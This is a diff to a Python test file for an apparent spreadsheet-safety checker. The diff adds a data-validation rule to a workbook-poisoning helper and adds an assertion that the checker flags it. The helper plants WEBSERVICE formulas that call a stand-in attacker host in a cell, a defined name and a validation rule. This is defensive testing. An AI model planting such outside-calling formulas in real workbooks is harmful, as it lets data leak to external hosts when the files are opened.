@@ -13,6 +13,7 @@ from pathlib import Path
 
 import openpyxl
 from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from hostile.inert import problems
 from hostile.tools import DEVELOPER, OTHER, Clock, edited, issued, submit
@@ -42,6 +43,9 @@ def _poison(book: EditedWorkbook) -> None:
     monitor = book.book[SHEET_MONITOR]
     monitor.protection.sheet = False
     monitor["B5"] = f'=WEBSERVICE("{EVIL}")'
+    rule = DataValidation(type="custom", formula1=f'WEBSERVICE("{EVIL}")')
+    rule.add(f"A{row + 2}")
+    own.add_data_validation(rule)
     book.book.defined_names["steel"] = DefinedName("steel", attr_text=f'WEBSERVICE("{EVIL}")')
 
 
@@ -78,6 +82,7 @@ def test_the_check_itself_finds_what_was_pasted(session: Session) -> None:
     assert any("external link" in p or "hyperlink" in p for p in found)
     assert any("defined name" in p for p in found)
     assert any("without prefix" in p for p in found)
+    assert any("rule reaching outside" in p for p in found)
 
 
 def test_a_feedback_copy_keeps_no_formula_and_no_outside_link(session: Session) -> None:
